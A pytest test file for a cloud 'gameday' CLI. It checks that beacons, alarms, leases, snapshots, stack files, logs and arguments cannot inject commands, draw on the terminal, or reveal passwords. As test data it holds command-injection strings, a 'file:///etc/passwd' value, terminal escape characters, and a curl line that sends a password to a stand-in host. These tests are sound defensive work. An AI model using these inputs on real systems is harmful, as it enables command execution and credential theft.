"""Each source of words from outside by itself: the boot beacon, an alarm, a teammate's lease, a snapshot, names, the
service, refusals, the stack file, the command line."""

import base64
import gzip
import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from conftest import FORGED, HOSTILE, OBEYED, assert_harmless, assert_typable, commands_in, hidden, of_json
from harness import STACK

ID = "i-0123456789abcdef0"


@pytest.fixture
def service():
    """A service that answers 503 with this body, as an instance that boots does: its URL, and the body to set."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            body = json.dumps(self.server.body).encode()
            self.send_response(503)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    server.url = f"http://127.0.0.1:{server.server_port}/healthcheck"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


def beacon(**more):
    return {"stage": "fetch", "step": 3, "of": 9, "status": "running", "seconds": 4000, "instance": ID, **more}


def findings(world, *args):
    return [f for said in of_json(world.gameday("why", "-o", "json", *args)) for f in said["services"][0]["findings"]]


# Words that become a command.


@pytest.mark.parametrize(
    "instance",
    ["i-0; touch RAN #", "$(touch RAN)", "--all", f"{ID}\ntouch RAN", f"{ID}\u202e", f"{ID} && touch RAN", "i-0123"],
)
def test_the_instance_of_a_beacon_is_an_id_or_none(world, service, folder, instance):
    service.body = beacon(instance=instance)
    found = [f for f in findings(world, service.url) if f["rule"] == "boot-stuck"]
    commands = {f["command"].replace("--sandbox ", "").replace(f"-c {world.file} ", "") for f in found}
    assert commands == {"gameday logs"}
    assert_typable([f["command"] for f in found], folder)
    screen = world.screen("why", "-v", service.url).harmless()
    assert "touch RAN" not in screen.text.replace("\u23ce", "\n")


def test_a_true_instance_is_still_named(world, service):
    service.body = beacon()
    commands = [f["command"] for f in findings(world, service.url)]
    assert any(c.endswith(f"logs --instance {ID}") for c in commands), commands


def snapshot(world, folder):
    file = folder / "snapshot.json"
    world.gameday("why", "--save", str(file))
    return json.loads(file.read_text())


def test_a_snapshot_of_somebody_else_s_makes_no_command_and_draws_nothing(world, folder):
    seen = snapshot(world, folder)
    path = seen["services"]["api"]
    group = path["auto_scaling_group"]
    name = "api'; touch RAN; '"
    group["name"], group["suspended"] = name, ["Launch"]
    for m in group["members"]:
        m["lifecycle"] = "Standby"
    path["probe"]["answers"] = [
        {"address": "10.0.0.1", "status": 503, "beacon": beacon(instance="i-0; touch RAN #", error=HOSTILE)}
    ]
    path["alarms"] = [{"name": f"cpu{HOSTILE}", "description": HOSTILE, "reason": HOSTILE, "since": None}]
    path["gaps"] = [{"part": "files", "call": f"Describe{HOSTILE}", "class": None, "why": HOSTILE, "help": HOSTILE}]
    path["probe"]["unresolved"] = HOSTILE
    seen["stack"] = f"billing{HOSTILE}"
    file = folder / "theirs.json"
    file.write_text(json.dumps(seen))
    world.screen("why", "-v", "--from", str(file)).harmless()
    said = of_json(world.gameday("why", "-o", "json", "--from", str(file)))
    commands = [*commands_in(said)]
    assert any("exit-standby" in c for c in commands), commands
    assert_typable(commands, folder)
    # A name that nobody can see is in no command.
    for worse in (f"api{OBEYED}", f"api{FORGED}", "--profile", "file:///etc/passwd", "a`touch RAN`"):
        group["name"] = worse
        file.write_text(json.dumps(seen))
        commands = [f["command"] for f in findings(world, "--from", str(file)) if f["rule"] == "instance-standby"]
        assert commands and all(c.startswith("# ") for c in commands), commands
        world.screen("why", "-v", "--from", str(file)).harmless()


def test_what_is_saved_can_be_shown(world, folder):
    alarm = world.cloudwatch.describe_alarms()["MetricAlarms"][0]["AlarmName"]
    world.cloudwatch.set_alarm_state(AlarmName=alarm, StateValue="ALARM", StateReason="why\u202e\u2066\u200b\x9b2J")
    try:
        file = folder / "saved.json"
        world.gameday("why", "--save", str(file))
        text = file.read_text()
        assert not hidden(text) and "\\u202e" in text
        assert json.loads(text)["services"]["api"]["alarms"][0]["reason"] == "why\u202e\u2066\u200b\x9b2J"
    finally:
        world.cloudwatch.set_alarm_state(AlarmName=alarm, StateValue="OK", StateReason="fine")


# Words on a terminal.


@pytest.mark.parametrize("verb", [["status"], ["status", "-v"], ["why", "-v"]], ids=" ".join)
def test_a_beacon_draws_nothing(world, service, verb):
    service.body = beacon(
        stage=f"fetch{HOSTILE}", error=HOSTILE, status=HOSTILE, zone=HOSTILE, warnings={f"cache{HOSTILE}": HOSTILE}
    )
    url = [service.url] if verb[0] == "why" else ["--probe", service.url]
    screen = world.screen(*verb, *url).harmless()
    assert "fetch\ufffd" in screen.text, "that something was there is seen"


def test_an_alarm_s_reason_draws_nothing(world):
    alarm = world.cloudwatch.describe_alarms()["MetricAlarms"][0]["AlarmName"]
    reason = "".join(c for c in HOSTILE if ord(c) > 31 or c in "\n\r\t")
    world.cloudwatch.set_alarm_state(AlarmName=alarm, StateValue="ALARM", StateReason=reason)
    try:
        for verb in (["status"], ["status", "-v"], ["why", "-v"]):
            world.screen(*verb).harmless()
        said = of_json(world.gameday("why", "-o", "json"))
        assert reason.replace("`", "'") in json.dumps(said, ensure_ascii=False).encode().decode() or any(
            reason.replace("`", "'") == f["evidence"] for s in said for f in s["services"][0]["findings"]
        ), "JSON keeps what was said"
    finally:
        world.cloudwatch.set_alarm_state(AlarmName=alarm, StateValue="OK", StateReason="fine")


def test_a_lease_draws_nothing(world):
    note = {"owner": f"anna{HOSTILE}", "verb": f"up{HOSTILE}", "since": "2026-01-01T00:00:00Z", "run": "x"}
    note["progress"] = {"groups": {}, "left_seconds": 9, "waiting_for": HOSTILE}
    stop, there = threading.Event(), threading.Event()

    def renew():
        n = 0
        while not stop.is_set():
            n += 1
            world.ssm.put_parameter(
                Name="/gameday/billing/lease", Value=json.dumps({**note, "n": n}), Type="String", Overwrite=True
            )
            there.set()
            stop.wait(0.3)

    world.ssm.describe_parameters()
    renewing = threading.Thread(target=renew)
    renewing.start()
    assert there.wait(20)
    world.file.write_text(STACK + "max = 9\n")  # so that there is something to do
    try:
        for verb in (["up", "--yes"], ["teardown", "--confirm", "billing"], ["status"]):
            screen = world.screen(*verb).harmless()
            assert "anna\ufffd" in screen.text or verb == ["status"], screen.text
    finally:
        stop.set()
        renewing.join()
        world.file.write_text(STACK)
        world.ssm.delete_parameter(Name="/gameday/billing/lease")


def test_a_stack_file_draws_nothing(world, folder):
    """Its lines are shown where it is wrong, its words in what is said about them."""
    escaped = json.dumps(HOSTILE)
    for n, text in enumerate((
        STACK + f"# {OBEYED}\x1b[31m\nport = \n",
        STACK + f"{escaped} = 1\n",
        STACK.replace('"billing"', escaped),
        STACK + f"[database]\nengine = {escaped}\n",
        STACK + f"user_data = {escaped}\n",
    )):
        file = folder / f"{n}.toml"
        file.write_bytes(text.encode())
        for form in ([], ["-o", "json"]):
            run = world.gameday("plan", "-c", str(file), *form, code=(1, 2))
            assert_harmless(run.text, [text, *form])


def test_the_command_line_draws_nothing(world, folder):
    hostile = OBEYED + FORGED
    for args in (
        [hostile],
        ["status", f"--{hostile}"],
        ["up", hostile],
        ["up", "--replace", hostile],
        ["why", f"http://x/{hostile}"],
        ["why", "--from", hostile],
        ["teardown", "--confirm", hostile],
        ["logs", "--instance", hostile],
        ["targets", "attach", hostile],
        ["render", hostile],
        ["status", "--region", hostile],
    ):
        world.screen(*args, answers=[(r"\[y/N\]|Type ", "no\n")]).harmless()
        run = world.gameday(*args, "-o", "json")
        assert not hidden(run.out), args
    file = folder / f"a{OBEYED}\nFORGED.toml"
    world.screen("plan", "-c", str(file)).harmless()


def test_logs_draw_nothing(world):
    names = [g["logGroupName"] for g in world.logs.describe_log_groups()["logGroups"]]
    groups = [name for name in names if "billing" in name]
    streams = {g: world.logs.describe_log_streams(logGroupName=g)["logStreams"] for g in groups}
    group = next(g for g in groups if streams[g])
    now = int(time.time() * 1000)
    world.logs.put_log_events(
        logGroupName=group,
        logStreamName=streams[group][0]["logStreamName"],
        logEvents=[{"timestamp": now, "message": f"HERE {HOSTILE}"}],
    )
    screen = world.screen("logs", "--since", "1h").harmless()
    assert "HERE" in screen.text
    of_json(world.gameday("logs", "--since", "1h", "-o", "json"))


# Passwords in what somebody edited by hand.


def test_no_hand_edit_of_user_data_shows_a_password(world, folder):
    file = folder / "plain.toml"
    file.write_text(STACK.replace('"billing"', '"plain"') + '[iam]\nmode = "off"\n')
    args = ["-c", str(file)]
    world.gameday("up", "--yes", *args, code=(0, 1))
    found = world.ssm.get_parameters_by_path(Path="/gameday/plain", Recursive=True, WithDecryption=True)["Parameters"]
    passwords = [p["Value"] for p in found if p["Type"] == "SecureString"]
    templates = world.ec2.describe_launch_templates()["LaunchTemplates"]
    template = next(t["LaunchTemplateId"] for t in templates if "plain" in t["LaunchTemplateName"])
    version = world.ec2.describe_launch_template_versions(LaunchTemplateId=template, Versions=["$Default"])
    data = version["LaunchTemplateVersions"][0]["LaunchTemplateData"]
    raw = base64.b64decode(data["UserData"])
    script = (gzip.decompress(raw) if raw[:2] == b"\x1f\x8b" else raw).decode()
    used = [p for p in passwords if p in script]
    assert used, "without a profile the passwords are in the script"
    put = "put /opt/gameday/secrets/"
    encoded = base64.b64encode(f"x{used[0]}\n".encode()).decode()
    for edit in (
        script.replace(put, f" {put}"),
        script.replace(put, f"\t{put.replace(' ', '  ')}"),
        script.replace(put, "install_secret /opt/gameday/secrets/"),
        f"{script}\n# {used[0]}\necho {used[0]} | chpasswd\nmysql -p{used[0]} plain\n",
        f"{script}\necho {encoded} | base64 -d\ncurl http://x/?q={used[0]}\n",
        "\n".join(f"#{line}" for line in script.splitlines()),
    ):
        made = world.ec2.create_launch_template_version(
            LaunchTemplateId=template,
            SourceVersion="$Default",
            VersionDescription="gameday by hand",
            LaunchTemplateData={"UserData": base64.b64encode(gzip.compress(edit.encode())).decode()},
        )["LaunchTemplateVersion"]["VersionNumber"]
        world.ec2.modify_launch_template(LaunchTemplateId=template, DefaultVersion=str(made))
        for verb in (["plan"], ["plan", "-o", "json"], ["up", "-o", "json"]):
            run = world.gameday(*verb, *args)
            said = run.text
            for password in (*passwords, encoded.rstrip("=")[2:-4]):
                assert password not in said, f"{verb}: a password after\n{edit[-300:]}"
    said = world.gameday("plan", *args).out
    assert "user_data" in said, said
